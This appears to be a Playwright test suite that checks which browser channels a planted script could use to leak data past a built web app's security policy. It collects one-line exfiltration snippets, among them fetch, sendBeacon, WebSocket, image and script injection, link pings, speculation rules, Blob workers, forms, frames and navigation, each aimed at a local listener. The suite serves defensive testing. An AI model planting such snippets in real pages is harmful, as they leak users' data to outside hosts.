import type { AddressInfo } from "node:net";
import { createServer as createTcp } from "node:net";
import { expect, test } from "@playwright/test";
import type { Site } from "./support/site.ts";
import { openSite } from "./support/site.ts";

/*
 * What a script that doesn't belong here could still get out, under the policy of the built app. `overlay.js`, which a host may write, plays the
 * intruder; the listener elsewhere tells what reached it. A channel that turns out otherwise than is written here fails, also when it has closed.
 */

/** What reaches somebody elsewhere: nothing, that somebody is calling (a host name can be seen), or what was said. */
type Reach = "nothing" | "a call" | "the words";

const channels: Readonly<Record<string, { code: string; reach: Reach }>> = {
  fetch: { code: "fetch(to).catch(() => {})", reach: "nothing" },
  XMLHttpRequest: { code: 'const x = new XMLHttpRequest(); x.open("GET", to); x.send()', reach: "nothing" },
  sendBeacon: { code: 'navigator.sendBeacon(to, "geheim")', reach: "nothing" },
  WebSocket: { code: 'new WebSocket(to.replace("http", "ws"))', reach: "nothing" },
  EventSource: { code: "new EventSource(to)", reach: "nothing" },
  "a picture": { code: "new Image().src = to", reach: "nothing" },
  "a script": { code: 'add("script", { src: to })', reach: "nothing" },
  "a style sheet": { code: 'add("link", { rel: "stylesheet", href: to })', reach: "nothing" },
  "a typeface": {
    code: 'const f = new FontFace("a", "url(" + to + ")"); document.fonts.add(f); f.load().catch(() => {})',
    reach: "nothing",
  },
  "the ping of a link": { code: 'add("a", { href: "#x", ping: to }).click()', reach: "nothing" },
  prefetch: { code: 'add("link", { rel: "prefetch", href: to })', reach: "nothing" },
  preconnect: { code: 'add("link", { rel: "preconnect", href: to })', reach: "nothing" },
  "speculation rules": {
    code: 'add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [to] }] }) })',
    reach: "nothing",
  },
  "a worker from text": {
    code: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'" + to + "\')"])))',
    reach: "nothing",
  },
  "a frame": { code: 'add("iframe", { src: to })', reach: "a call" },
  "a form": {
    code: 'const f = add("form", { action: to, method: "post" }); f.submit()',
    reach: "a call",
  },
  eval: { code: 'eval("fetch(to)")', reach: "nothing" },
  "another window": { code: "window.open(to)", reach: "the words" },
  "leaving the page": { code: "location.href = to", reach: "the words" },
};

let site: Site;
test.beforeEach(async () => {
  site = await openSite("dist");
});
test.afterEach(() => site.close());

for (const [name, { code, reach }] of Object.entries(channels)) {
  test(`${name} gets out: ${reach}`, async ({ page }) => {
    const heard: string[] = [];
    const elsewhere = createTcp((socket) => {
      heard.push("");
      socket.on("data", (data) => heard.push(String(data)));
      socket.on("error", () => undefined);
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
    const to = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/geheim`;
    site.write(
      "overlay.js",
      `addEventListener("message", ({ data }) => {
        if (data !== "go") return;
        const to = ${JSON.stringify(to)};
        const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
        try { ${code} } catch {}
        setTimeout(() => tried(), 1500);
      });`,
    );
    let isOver = false;
    await page.exposeFunction("tried", () => {
      isOver = true;
    });
    await page.goto(site.address);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await page.evaluate(() => postMessage("go"));
    await expect.poll(() => isOver || heard.some((text) => text.includes("geheim"))).toBe(true);
    const reached: Reach = heard.some((text) => text.includes("geheim"))
      ? "the words"
      : heard.length > 0
        ? "a call"
        : "nothing";
    elsewhere.close();
    expect(reached).toBe(reach);
  });
}
